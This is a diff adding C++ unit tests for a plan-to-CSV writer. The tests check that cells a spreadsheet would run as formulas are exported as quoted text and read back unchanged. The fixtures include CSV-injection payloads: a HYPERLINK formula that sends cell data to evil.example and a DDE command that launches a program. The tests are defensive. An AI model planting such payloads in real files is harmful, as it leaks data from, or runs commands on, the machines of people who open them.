@@ -72,6 +72,57 @@ TEST(WritePlanCsv, QuotesFieldsThatHoldCommasQuotesLineBreaksOrEdgeSpaces) {
         << csv;
 }
 
+// A note a spreadsheet would run as a formula (OWASP's CSV injection) is written as text: a
+// single quote before it and the cell in quotes.
+TEST(WritePlanCsv, WritesCellsASpreadsheetWouldRunAsFormulasAsQuotedText) {
+    auto plan = fixture::small_plan();
+    auto& action = plan.workstreams[0].commitments[0].actions[1];
+    action.text = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    action.lead = "@SUM(1+1)";
+    action.updates.push_back({fixture::d("2015-09-01"), "-2+3", "+cmd|' /C calc'!A0",
+                              domain::ActionStatus::InProgress, domain::Rag::Red});
+    const auto rows = rows_of(write_plan_csv(plan));
+    ASSERT_EQ(rows.size(), 5U);
+    EXPECT_EQ(rows[2].substr(rows[2].find(",A2,")),
+              ",A2,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@SUM(1+1)\","
+              "2015-08-01,2015-08-01,In progress,Red,2015-09-01,\"'-2+3\",\"'+cmd|' /C calc'!A0\"");
+}
+
+TEST(WritePlanCsv, GuardsCellsStartingWithATabOrCarriageReturnButNotPlainNumbers) {
+    auto plan = fixture::small_plan();
+    plan.workstreams[0].title = "\t=1+1";
+    plan.workstreams[0].sponsor = "\r=1+1";
+    plan.workstreams[0].lead = "-12.5";
+    const auto rows = rows_of(write_plan_csv(plan));
+    EXPECT_EQ(rows[1].substr(0, rows[1].find(",C1,")), "W1,\"'\t=1+1\",\"'\r=1+1\",-12.5");
+}
+
+// What csip writes it reads back as the text it was given, including text that already starts
+// with the quote the guard adds and text that only looks guarded.
+TEST(PlanCsvRoundTrip, KeepsTextThatASpreadsheetWouldRunAsAFormula) {
+    auto plan = fixture::small_plan();
+    auto& actions = plan.workstreams[0].commitments[0].actions;
+    actions[1].text = "=HYPERLINK(\"http://evil.example\",\"Click\")";
+    actions[1].lead = "'=already quoted";
+    actions[2].text = "-5 cases since July";
+    actions[2].lead = "''@two quotes";
+    actions[3].text = "'quoted, but not a formula";
+    actions[3].lead = "\t+tab first";
+    actions[1].updates.push_back({fixture::d("2015-09-01"), "@officer", "+cmd|' /C calc'!A0",
+                                  domain::ActionStatus::InProgress, domain::Rag::Red});
+    plan.workstreams[0].commitments[0].text = "-";
+    const auto result = import::read_plan_csv(write_plan_csv(plan), "plan.csv", &plan);
+    ASSERT_TRUE(result.problems.empty()) << to_string(result.problems.front());
+    ASSERT_TRUE(result.plan);
+    EXPECT_EQ(write_plan_json(*result.plan), write_plan_json(plan));
+    const auto& read = result.plan->workstreams[0].commitments[0].actions;
+    EXPECT_EQ(read[1].text, actions[1].text);
+    EXPECT_EQ(read[1].lead, "'=already quoted");
+    EXPECT_EQ(read[2].lead, "''@two quotes");
+    EXPECT_EQ(read[3].text, "'quoted, but not a formula");
+    EXPECT_EQ(read[3].lead, "\t+tab first");
+}
+
 TEST(WritePlanCsv, GivesARowToACommitmentWithNoActionsAndAWorkstreamWithNoCommitments) {
     const auto rows = rows_of(write_plan_csv(canonical_plan()));
     EXPECT_NE(std::find(rows.begin(), rows.end(),
